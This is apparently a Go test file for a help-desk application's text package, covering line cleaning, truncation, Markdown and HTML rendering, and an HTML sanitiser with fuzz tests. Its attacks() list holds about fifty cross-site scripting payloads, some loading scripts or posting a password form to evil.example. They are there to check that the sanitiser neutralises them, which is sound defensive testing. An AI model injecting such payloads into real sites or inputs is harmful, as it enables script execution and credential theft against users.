package text_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"github.com/fettle-itsm/fettle/internal/base/text"
)

func TestLine(t *testing.T) {
	tests := []struct {
		name, in string
		limit    int
		want     string
	}{
		{"ends are trimmed and runs of spaces joined", "  a \t b\r\n c  ", 0, "a b c"},
		{"control characters become spaces", "a\x00b\x1b[31mc\u0085d", 0, "a b [31mc d"},
		{"overrides of direction go", "invoice\u202egpj.exe", 0, "invoicegpj.exe"},
		{"invalid bytes are replaced", "a\xffb", 0, "a\uFFFDb"},
		{"runes count, not bytes", "äöüß", 3, "äöü"},
		{"a cut line does not end in a space", "ab cd", 3, "ab"},
		{"only spaces", " \n ", 5, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := text.Line(tt.in, tt.limit); got != tt.want {
				t.Errorf("got %q", got)
			}
		})
	}
}

func TestCleanKeepsLines(t *testing.T) {
	if got := text.Clean("\r\n a\r\nb\rc\u2028d\x00\x07\te\xff \n"); got != "a\nb\nc\nd\te\uFFFD" {
		t.Errorf("got %q", got)
	}
	if got := text.Valid("a\x00b\xc3"); got != "ab\uFFFD" {
		t.Errorf("got %q", got)
	}
}

func TestTruncateAndExcerpt(t *testing.T) {
	tests := []struct{ name, got, want string }{
		{"short stays", text.Truncate("äöü", 3), "äöü"},
		{"long is cut", text.Truncate("äöüß", 3), "äö…"},
		{"nothing", text.Truncate("a", 0), ""},
		{"no space before the end", text.Truncate("ab cdef", 4), "ab…"},
		{"an excerpt of a short text is the text", text.Excerpt("a\nb", nil, 10), "a b"},
		{"an excerpt begins near the word", text.Excerpt(strings.Repeat("filler ", 30)+"the Printer burns brightly", []string{"printer"}, 30), "…the Printer burns brightly"},
		{"an excerpt without a match begins at the start", text.Excerpt(strings.Repeat("word ", 20), []string{"zzz"}, 12), "word word w…"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, tt.got, tt.want)
		}
	}
}

func TestMarkdown(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"emphasis", "**a** _b_ ~~c~~", "<p><strong>a</strong> <em>b</em> <del>c</del></p>"},
		{"a line end is a line end", "a\nb", "<p>a<br>\nb</p>"},
		{"a list", "- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"},
		{"code stays what it is", "`<b>`", "<p><code>&lt;b&gt;</code></p>"},
		{"an address", "see https://example.com/x", `<p>see <a href="https://example.com/x" rel="noreferrer noopener" target="_blank">https://example.com/x</a></p>`},
		{"a link within the desk", "[that](/incidents/INC-1)", `<p><a href="/incidents/INC-1" rel="noreferrer">that</a></p>`},
		{"a script in a link", "[x](javascript:alert(1))", "<p>x</p>"},
		{"HTML is shown as it was typed", "a <img src=x onerror=alert(1)> b", "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>"},
		{"so is what only looks like it", "Error <0x80070005> at <unknown> <!-- no --> <note>x</note>",
			"<p>Error &lt;0x80070005&gt; at &lt;unknown&gt; &lt;!-- no --&gt; &lt;note&gt;x&lt;/note&gt;</p>"},
		{"and a block of it", "<script>\nalert(1)\n</script>", "<p>&lt;script&gt;<br>\nalert(1)<br>\n&lt;/script&gt;</p>"},
		{"no remote image", "![x](https://evil.example/p.gif)", "<p></p>"},
		{"a table", "|a|b|\n|-|-|\n|1|2|", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := strings.TrimSpace(text.Markdown(tt.in)); got != tt.want {
				t.Errorf("got %s", got)
			}
		})
	}
}

func TestPlain(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"markup is text", "<b>&", "<p>&lt;b&gt;&amp;</p>\n"},
		{"paragraphs and lines", "a\nb\n\n\nc", "<p>a<br>\nb</p>\n<p>c</p>\n"},
		{"an address without the full stop", "See https://example.com/a?b=1&c=2.", `<p>See <a href="https://example.com/a?b=1&amp;c=2" rel="noreferrer noopener" target="_blank">https://example.com/a?b=1&amp;c=2</a>.</p>` + "\n"},
		{"an address in parentheses", "(http://a.example/x)", `<p>(<a href="http://a.example/x" rel="noreferrer noopener" target="_blank">http://a.example/x</a>)</p>` + "\n"},
		{"nothing", " \n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := text.Plain(tt.in); got != tt.want {
				t.Errorf("got %s", got)
			}
		})
	}
}

func TestFromHTML(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"blocks become lines", "<p>Hello <b>you</b>,</p><p>the&nbsp;printer<br>burns.</p>", "Hello you,\n\nthe\u00a0printer\nburns."},
		{"scripts and styles go", "<style>p{}</style>a<script>alert('<p>x')</script>b", "ab"},
		{"a list", "<ul><li>one</li><li>two</li></ul>", "- one\n- two"},
		{"a link that says something else", `<a href="https://example.com/x">here</a> now`, "here (https://example.com/x) now"},
		{"a link that says itself", `<a href="https://example.com/">https://example.com</a>`, "https://example.com"},
		{"a table", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"},
		{"preformatted text keeps its spaces", "<pre>a\n  b</pre>", "a\n  b"},
		{"source line ends are spaces", "a\n  b", "a b"},
		{"broken markup", "<p>a<b", "a"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := text.FromHTML(tt.in); strings.ReplaceAll(got, "\u00a0", " ") != strings.ReplaceAll(tt.want, "\u00a0", " ") {
				t.Errorf("got %q", got)
			}
		})
	}
}

// attacks are ways to run a script or to load something from elsewhere.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.gif">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
		`<a href="&#106;&#97;vascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>`, `<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data="x.swf"></object><embed src=x>`, `<form action="https://evil.example"><input name=password><button>ok</button></form>`,
		`<div style="background:url(https://evil.example/x)">x</div>`, `<style>@import 'https://evil.example/x.css';</style>`, `<link rel=stylesheet href=//evil.example>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<video src=x onerror=alert(1)></video><audio autoplay src=//evil.example>`,
		`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<p id="csrf" name="x" class="admin">x</p>`, `<table background="https://evil.example/x"><tr><td>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`, `<textarea><script>alert(1)</script></textarea>`, "<img\x00 src=x onerror=alert(1)>", "<\x00script>alert(1)</script>",
		`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<a href="//evil.example/%0d%0aSet-Cookie:x">x</a>`, `<isindex action=javascript:alert(1)>`,
		"[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](https://evil.example/p.png \"onerror=alert(1)\")",
		"<javascript:alert(1)>", "[x]: javascript:alert(1)\n[x]", "[a](https://ok.example\"onmouseover=\"alert(1))", "`<script>`\n\n<script>alert(1)</script>",
		`https://ok.example/"onmouseover="alert(1)`, `http://ok.example/'><script>alert(1)</script>`, `https://ok.example/?q=<svg/onload=alert(1)>`,
	}
}

// unsafe returns what is dangerous in HTML as a browser would read it, "" when there is nothing.
func unsafe(s string) string {
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "p", "br", "hr", "div", "b", "strong", "i", "em", "u", "s", "del", "ins", "sub", "sup", "small", "mark", "kbd", "code", "pre", "blockquote",
				"ul", "ol", "li", "dl", "dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "a":
			default:
				return "the element " + tok.Data
			}
			for _, a := range tok.Attr {
				switch a.Key {
				case "rel", "target", "start", "colspan", "rowspan":
				case "href":
					scheme, _, ok := strings.Cut(strings.ToLower(a.Val), ":")
					if ok && !strings.ContainsAny(scheme, "/?#") && scheme != "http" && scheme != "https" && scheme != "mailto" && scheme != "tel" {
						return "the address " + a.Val
					}
				default:
					return "the attribute " + a.Key
				}
			}
		case html.CommentToken, html.DoctypeToken:
			return "a comment"
		}
	}
}

func TestAttacksComeOutHarmless(t *testing.T) {
	for _, in := range attacks() {
		for name, f := range map[string]func(string) string{"Sanitize": text.Sanitize, "Markdown": text.Markdown, "Plain": text.Plain} {
			if what := unsafe(f(in)); what != "" {
				t.Errorf("%s(%s) lets through %s: %s", name, in, what, f(in))
			}
		}
		// The plain text of HTML is escaped before it is shown; it must not turn back into markup by itself.
		if what := unsafe(text.Plain(text.FromHTML(in))); what != "" {
			t.Errorf("FromHTML(%s) lets through %s", in, what)
		}
	}
}

func TestForeignLinksDoNotTellWhereTheyCameFrom(t *testing.T) {
	got := text.Sanitize(`<a href="https://example.com">x</a>`)
	if !strings.Contains(got, "noopener") || !strings.Contains(got, "noreferrer") {
		t.Error(got)
	}
}

func FuzzHTML(f *testing.F) {
	for _, s := range attacks() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 10_000 {
			return
		}
		for name, fn := range map[string]func(string) string{"Sanitize": text.Sanitize, "Markdown": text.Markdown, "Plain": text.Plain} {
			got := fn(s)
			if what := unsafe(got); what != "" {
				t.Errorf("%s(%q) lets through %s: %s", name, s, what, got)
			}
			if !utf8.ValidString(got) {
				t.Errorf("%s(%q) is not valid UTF-8", name, s)
			}
		}
	})
}

func FuzzClean(f *testing.F) {
	f.Add("a\xff\x00 b\u202e", 3)
	f.Fuzz(func(t *testing.T, s string, limit int) {
		limit = limit % 1000
		for _, got := range []string{text.Line(s, max(limit, 1)), text.Truncate(text.Valid(s), limit), text.Excerpt(s, []string{"a"}, limit)} {
			if !utf8.ValidString(got) || strings.ContainsRune(got, 0) || utf8.RuneCountInString(got) > max(limit, 1) {
				t.Errorf("%q, %d gives %q", s, limit, got)
			}
		}
		if got := text.Clean(s); !utf8.ValidString(got) || text.Clean(got) != got {
			t.Errorf("%q gives %q", s, got)
		}
		if got := text.Line(s, 0); text.Line(got, 0) != got {
			t.Errorf("%q gives %q", s, got)
		}
		if got := text.FromHTML(s); !utf8.ValidString(got) {
			t.Errorf("%q gives %q", s, got)
		}
	})
}
